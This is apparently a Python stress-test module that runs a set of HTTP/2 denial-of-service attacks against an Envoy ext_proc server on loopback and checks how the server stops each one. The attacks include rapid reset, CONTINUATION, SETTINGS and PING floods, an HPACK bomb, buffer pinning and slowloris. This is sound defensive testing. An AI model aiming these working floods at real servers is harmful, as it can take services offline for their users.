"""HTTP/2 attacks on an EPP's ext_proc port at a loopback address, each as a raw client over asyncio.

Every attack is bounded in frames and seconds and returns what the server answered: its GOAWAY
code, the RST_STREAM codes it sent, whether it closed the connection. The frames are encoded here
from RFC 9113 (not with the server's own code), so the probes can be pointed at any EPP: a
``Target`` names the port, the TLS context, the gRPC method the streams are opened on and a message
that keeps such a stream open. Used by ``tests/unit/h2/test_attacks.py`` (against an in-process
server), ``benchmarks/bench_h2_attacks.py`` (against a server process, with RSS and latency figures)
and ``python -m harness.stress.h2_attacks --port N`` (against any EPP listening on loopback).
Loopback only: ``RawPeer.connect`` refuses any other address.
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import contextlib
import ipaddress
import ssl
import struct
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Final

from hpack import Encoder

EXT_PROC_PATH: Final = "/envoy.service.ext_proc.v3.ExternalProcessor/Process"
# A ProcessingRequest with empty request_headers (field 2, length 0): an EPP answers it and keeps
# the stream open for the rest of the request.
EXT_PROC_HOLD: Final = b"\x12\x00"
HOLD_PATH: Final = "/test.Echo/Chat"  # the tests' and benchmark's method: its handler waits on "wait…"
_READ_BYTES: Final = 1 << 16

# RFC 9113 §4-§7, what the attacks write and read.
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x9
END_STREAM = ACK = 0x1
END_HEADERS: Final = 0x4
SETTINGS_INITIAL_WINDOW_SIZE: Final = 0x4
NO_ERROR, PROTOCOL_ERROR, FLOW_CONTROL_ERROR, REFUSED_STREAM, CANCEL = 0x0, 0x1, 0x3, 0x7, 0x8
COMPRESSION_ERROR, ENHANCE_YOUR_CALM = 0x9, 0xB
_HEADER: Final = struct.Struct(">HBBBI")  # 24-bit length as 16 + 8 bits, type, flags, stream id
_HEADER_BYTES: Final = 9
_U32: Final = struct.Struct(">I")


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    length = len(payload)
    return _HEADER.pack(length >> 8, length & 0xFF, kind, flags, stream_id) + payload


def settings_frame(settings: dict[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in settings.items()))


def rst_stream(stream_id: int, code: int) -> bytes:
    return frame(RST_STREAM, 0, stream_id, _U32.pack(code))


def hpack_length(value: int) -> bytes:
    """A string length in HPACK's 7-bit prefixed integer encoding, Huffman bit clear (RFC 7541 §5.1)."""
    if value < 0x7F:
        return bytes([value])
    out, value = bytearray([0x7F]), value - 0x7F
    while value >= 0x80:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


@dataclass(frozen=True)
class Target:
    """Where the attacks go: a loopback port, TLS (or plain), the method and a message that holds a
    stream open (for an EPP: ``EXT_PROC_PATH`` and ``EXT_PROC_HOLD``)."""

    host: str
    port: int
    tls: ssl.SSLContext | None = None
    path: str = EXT_PROC_PATH
    hold: bytes = EXT_PROC_HOLD
    server_name: str = "localhost"  # what the TLS certificate is checked for


@dataclass
class Outcome:
    goaway: int | None = None
    resets: collections.Counter[int] = field(default_factory=collections.Counter)
    closed: bool = False  # the server ended the connection (EOF or reset)
    seconds: float = 0.0
    sent_frames: int = 0

    def __str__(self) -> str:
        resets = ", ".join(f"{count}x{code}" for code, count in sorted(self.resets.items())) or "-"
        return f"goaway={self.goaway} resets={resets} closed={self.closed} in {self.seconds:.2f}s"


def request_block(path: str, authority: str = "attack") -> bytes:
    return Encoder().encode(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", authority),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
    )


def grpc_prefix(length: int) -> bytes:
    return struct.pack(">BI", 0, length)


class RawPeer:
    """One raw HTTP/2 client connection."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer
        self.sent = 0

    @classmethod
    async def connect(
        cls, host: str, port: int, tls: ssl.SSLContext | None = None, server_name: str = "localhost"
    ) -> RawPeer:
        if not ipaddress.ip_address(host).is_loopback:
            raise ValueError(f"attacks go to loopback addresses only, not {host}")
        reader, writer = await asyncio.open_connection(
            host, port, ssl=tls, server_hostname=server_name if tls else None, limit=1 << 20
        )
        return cls(reader, writer)

    def write(self, *frames: bytes) -> None:
        self.sent += len(frames)
        self.writer.write(b"".join(frames))

    async def drain(self, seconds: float = 5.0) -> bool:
        """Wait for the kernel to take what was written; False when it would not (the server stopped
        reading) or the connection is gone."""
        try:
            async with asyncio.timeout(seconds):
                await self.writer.drain()
        except (TimeoutError, ConnectionError):
            return False
        return True

    def handshake(self, settings: dict[int, int] | None = None) -> None:
        self.write(PREFACE + settings_frame(settings or {}), frame(SETTINGS, ACK, 0))

    async def outcome(self, seconds: float, started: float) -> Outcome:
        """Read (discarding) until the server closes or ``seconds`` pass; what it said."""
        out = Outcome()
        buf = bytearray()
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(seconds):
                while True:
                    try:
                        data = await self.reader.read(_READ_BYTES)
                    except (ConnectionError, ssl.SSLError):
                        data = b""
                    if not data:
                        out.closed = True
                        break
                    buf += data
                    position = 0
                    while len(buf) - position >= _HEADER_BYTES:
                        high, low, kind, _, _ = _HEADER.unpack_from(buf, position)
                        end = position + _HEADER_BYTES + ((high << 8) | low)
                        if end > len(buf):
                            break
                        payload = bytes(buf[position + _HEADER_BYTES : end])
                        if kind == GOAWAY and out.goaway is None:
                            out.goaway = _U32.unpack_from(payload, 4)[0]
                        elif kind == RST_STREAM:
                            out.resets[_U32.unpack(payload)[0]] += 1
                        position = end
                    del buf[:position]
        out.seconds = time.monotonic() - started
        out.sent_frames = self.sent
        return out

    def close(self) -> None:
        self.writer.transport.abort()


Attack = Callable[[Target, float], Awaitable[Outcome]]
"""(target, seconds at most) -> what the server answered."""


async def _run(
    target: Target,
    seconds: float,
    script: Callable[[RawPeer], Awaitable[None]],
    read_after: bool = False,
) -> Outcome:
    """Connect, run ``script``, and read what the server says: meanwhile (so its GOAWAY is read
    before a reset could discard it), or only afterwards for a client that "never reads"."""
    started = time.monotonic()
    peer = await RawPeer.connect(target.host, target.port, target.tls, target.server_name)
    try:
        reading = None if read_after else asyncio.create_task(peer.outcome(seconds, started))
        try:
            with contextlib.suppress(ConnectionError, ssl.SSLError):
                async with asyncio.timeout(seconds):
                    await script(peer)
        except TimeoutError:
            pass
        if reading is not None:
            return await reading
        return await peer.outcome(max(0.1, seconds - (time.monotonic() - started)), started)
    finally:
        peer.close()


# --- the attacks: (target, seconds) -> Outcome -----------------------------------------------------
async def rapid_reset(target: Target, seconds: float) -> Outcome:
    """CVE-2023-44487: open a stream and reset it at once, 20,000 times."""

    async def script(peer: RawPeer) -> None:
        peer.handshake()
        block = request_block(target.path)
        for batch in range(0, 20_000, 500):
            peer.write(
                *(
                    frame(HEADERS, END_HEADERS, 2 * i + 1, block) + rst_stream(2 * i + 1, CANCEL)
                    for i in range(batch, batch + 500)
                )
            )
            if not await peer.drain(1.0):
                return

    return await _run(target, seconds, script)


async def continuation_flood(target: Target, seconds: float) -> Outcome:
    """CVE-2024-27316 class: one header block that never ends, 16 KiB CONTINUATION frames (64 MiB)."""

    async def script(peer: RawPeer) -> None:
        peer.handshake()
        peer.write(frame(HEADERS, 0, 1, request_block(target.path)))
        chunk = frame(CONTINUATION, 0, 1, b"\x40\x01a\x81" * 4096)  # literals: "a" -> "b"*
        for _ in range(64):
            peer.write(*([chunk] * 64))
            if not await peer.drain(1.0):
                return

    return await _run(target, seconds, script)


async def empty_continuation_flood(target: Target, seconds: float) -> Outcome:
    """One header block of 1,000,000 empty CONTINUATION frames (nothing for a byte count to see)."""

    async def script(peer: RawPeer) -> None:
        peer.handshake()
        peer.write(frame(HEADERS, 0, 1, request_block(target.path)))
        empty = frame(CONTINUATION, 0, 1)
        for _ in range(100):
            peer.write(*([empty] * 10_000))
            if not await peer.drain(1.0):
                return

    return await _run(target, seconds, script)


def _flood_without_reading(flood: bytes, count: int) -> Callable[[RawPeer], Awaitable[None]]:
    async def script(peer: RawPeer) -> None:
        peer.handshake()
        for _ in range(count // 10_000):
            peer.write(*([flood] * 10_000))
            if not await peer.drain(1.0):
                return  # the server stopped reading: what it sent is read only afterwards

    return script


async def settings_flood(target: Target, seconds: float) -> Outcome:
    """CVE-2019-9515: 200,000 SETTINGS frames from a client that reads nothing meanwhile."""
    flood = settings_frame({SETTINGS_INITIAL_WINDOW_SIZE: 65_535})
    return await _run(target, seconds, _flood_without_reading(flood, 200_000), read_after=True)


async def ping_flood(target: Target, seconds: float) -> Outcome:
    """CVE-2019-9512: 200,000 PINGs from a client that reads nothing meanwhile."""
    flood = frame(PING, 0, 0, b"8 bytes!")
    return await _run(target, seconds, _flood_without_reading(flood, 200_000), read_after=True)


async def many_streams(target: Target, seconds: float) -> Outcome:
    """20,000 streams opened and left open (each with the message that holds it open)."""

    async def script(peer: RawPeer) -> None:
        peer.handshake()
        block = request_block(target.path)
        message = grpc_prefix(len(target.hold)) + target.hold
        for batch in range(0, 20_000, 1000):
            peer.write(
                *(
                    frame(HEADERS, END_HEADERS, 2 * i + 1, block) + frame(DATA, 0, 2 * i + 1, message)
                    for i in range(batch, batch + 1000)
                )
            )
            if not await peer.drain(1.0):
                return

    return await _run(target, seconds, script)


async def _pin(target: Target, seconds: float, per_stream: int) -> Outcome:
    async def script(peer: RawPeer) -> None:
        peer.handshake()
        block = request_block(target.path)
        chunk = b"p" * 16_384
        for i in range(100):
            sid = 2 * i + 1
            peer.write(frame(HEADERS, END_HEADERS, sid, block), frame(DATA, 0, sid, grpc_prefix(4 << 20)))
            peer.write(*[frame(DATA, 0, sid, chunk)] * (per_stream // len(chunk)))
            if not await peer.drain(2.0):
                return

    return await _run(target, seconds, script)


async def buffer_pinning(target: Target, seconds: float) -> Outcome:
    """100 streams, each with the start of a 4 MiB message it never finishes, 0.94 MiB each (what a
    1 MiB stream window would let through), the connection then held open."""
    return await _pin(target, seconds, 60 * 16_384)


async def buffer_pinning_in_windows(target: Target, seconds: float) -> Outcome:
    """As ``buffer_pinning`` with 224 KiB a stream, within a 256 KiB stream window: what the server
    holds is then bounded by what it lets wait for a reservation, not by windows being overrun."""
    return await _pin(target, seconds, 14 * 16_384)


async def data_past_the_window(target: Target, seconds: float) -> Outcome:
    """A stream held open gets 3 MiB in whole messages and no credit back (more than a 1 MiB window)."""

    async def script(peer: RawPeer) -> None:
        peer.handshake()
        peer.write(
            frame(HEADERS, END_HEADERS, 1, request_block(target.path)),
            frame(DATA, 0, 1, grpc_prefix(len(target.hold)) + target.hold),
        )
        message = grpc_prefix(16_379) + b"d" * 16_379
        peer.write(*[frame(DATA, 0, 1, message)] * 192)
        await peer.drain(2.0)

    return await _run(target, seconds, script)


async def hpack_bomb(target: Target, seconds: float) -> Outcome:
    """A 4 KB header value put in the HPACK table, then referenced 4,000 times (16 MB decoded)."""

    async def script(peer: RawPeer) -> None:
        peer.handshake()
        value = b"v" * 4000
        insert = b"\x40\x01x" + hpack_length(len(value)) + value  # literal, incremental indexing
        block = request_block(target.path) + insert + b"\xbe" * 4000  # dynamic entry 62, again and again
        parts = [block[i : i + 16_384] for i in range(0, len(block), 16_384)]
        out = [frame(HEADERS, END_HEADERS if len(parts) == 1 else 0, 1, parts[0])]
        for i, part in enumerate(parts[1:], 1):
            out.append(frame(CONTINUATION, END_HEADERS if i == len(parts) - 1 else 0, 1, part))
        peer.write(*out)
        await peer.drain(2.0)

    return await _run(target, seconds, script)


async def malformed_preface(target: Target, seconds: float) -> Outcome:
    async def script(peer: RawPeer) -> None:
        peer.write(b"GET / HTTP/1.1\r\nHost: epp\r\n\r\n")
        await peer.drain(1.0)

    return await _run(target, seconds, script)


async def slowloris_header(target: Target, seconds: float) -> Outcome:
    """A header block started and never finished."""

    async def script(peer: RawPeer) -> None:
        peer.handshake()
        peer.write(frame(HEADERS, 0, 1, request_block(target.path)[:10]))
        await peer.drain(1.0)

    return await _run(target, seconds, script)


async def idle_connection(target: Target, seconds: float) -> Outcome:
    """A connection that sends nothing at all (not even the preface)."""

    async def script(peer: RawPeer) -> None:
        return None

    return await _run(target, seconds, script)


ATTACKS: dict[str, Attack] = {
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation_flood,
    "empty-continuation-flood": empty_continuation_flood,
    "settings-flood-no-read": settings_flood,
    "ping-flood-no-read": ping_flood,
    "20k-streams": many_streams,
    "buffer-pinning": buffer_pinning,
    "buffer-pinning-in-windows": buffer_pinning_in_windows,
    "data-past-the-window": data_past_the_window,
    "hpack-bomb": hpack_bomb,
    "malformed-preface": malformed_preface,
    "slowloris-mid-header": slowloris_header,
    "idle-connection": idle_connection,
}


def _calm(outcome: Outcome) -> bool:
    return outcome.goaway == ENHANCE_YOUR_CALM and outcome.closed


# How a server with our EPP's limits (``epp.h2.Limits``) stops each attack: the answer the unit tier
# (in-process server), the integration and e2e tiers (a real EPP process, Envoy beside it) and the
# command line check for. Another EPP may stop an attack otherwise; ``--only`` prints what it did.
STOPPED_AS_OURS: dict[str, Callable[[Outcome], bool]] = {
    "rapid-reset": _calm,
    "continuation-flood": lambda o: o.goaway in (PROTOCOL_ERROR, ENHANCE_YOUR_CALM) and o.closed,
    "empty-continuation-flood": _calm,
    "settings-flood-no-read": _calm,
    "ping-flood-no-read": _calm,
    "20k-streams": lambda o: _calm(o) and o.resets[REFUSED_STREAM] > 0,
    # The streams past the reservation budget overran their stream windows; the connection is kept.
    "buffer-pinning": lambda o: o.goaway is None and o.resets[FLOW_CONTROL_ERROR] > 0,
    # Within the windows: what waits past 8 stream windows is cut short (RESOURCE_EXHAUSTED
    # trailers, then RST_STREAM NO_ERROR); the connection is kept.
    "buffer-pinning-in-windows": lambda o: o.goaway is None and set(o.resets) == {NO_ERROR},
    "data-past-the-window": lambda o: o.goaway is None and o.resets == {FLOW_CONTROL_ERROR: 1},
    "hpack-bomb": lambda o: o.goaway == COMPRESSION_ERROR and o.closed,
    "malformed-preface": lambda o: o.goaway == PROTOCOL_ERROR and o.closed,
    "slowloris-mid-header": _calm,
    "idle-connection": _calm,
}
# The same against a real EPP (its ext_proc handler behind the limits): the filler messages of
# data-past-the-window are no ProcessingRequest, so the handler ends that stream (INVALID_ARGUMENT
# trailers, RST_STREAM NO_ERROR) before its window runs out, and what still arrives is dropped.
STOPPED_BY_OUR_EPP: dict[str, Callable[[Outcome], bool]] = {
    **STOPPED_AS_OURS,
    "data-past-the-window": lambda o: o.goaway is None and o.resets == {NO_ERROR: 1},
}
# Attacks whose connection the server keeps: bounded by time rather than by the server's close.
SECONDS: dict[str, float] = {
    "buffer-pinning": 2.0,
    "buffer-pinning-in-windows": 2.0,
    "data-past-the-window": 2.0,
}


# --- against any EPP -----------------------------------------------------------------------------
async def _main(target: Target, names: list[str], seconds: float) -> None:
    for name in names:
        print(f"{name:26} {await ATTACKS[name](target, seconds)}", flush=True)


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(
        prog="python -m harness.stress.h2_attacks",
        description="Run HTTP/2 attacks, one after another, at an EPP's ext_proc port on loopback and print "
        "what it answered (GOAWAY code, RST_STREAM codes, whether it closed the connection).",
    )
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument(
        "--ca", type=Path, help="the CA (PEM) of the port's TLS certificate; plain text without"
    )
    parser.add_argument("--server-name", default="localhost", help="the name on that certificate")
    parser.add_argument("--path", default=EXT_PROC_PATH, help="the gRPC method streams are opened on")
    parser.add_argument("--only", default="", help=f"comma-separated, of: {', '.join(ATTACKS)}")
    parser.add_argument("--seconds", type=float, default=10.0, help="upper bound per attack")
    args = parser.parse_args(argv)
    names = [n for n in args.only.split(",") if n] or list(ATTACKS)
    unknown = sorted(set(names) - set(ATTACKS))
    if unknown:
        parser.error(f"unknown attacks {unknown}")
    tls = None
    if args.ca is not None:
        tls = ssl.create_default_context(cadata=args.ca.read_text())
        tls.set_alpn_protocols(["h2"])
    hold = EXT_PROC_HOLD if args.path == EXT_PROC_PATH else b"wait"
    target = Target(args.host, args.port, tls, args.path, hold, args.server_name)
    asyncio.run(_main(target, names, args.seconds))


if __name__ == "__main__":
    main()
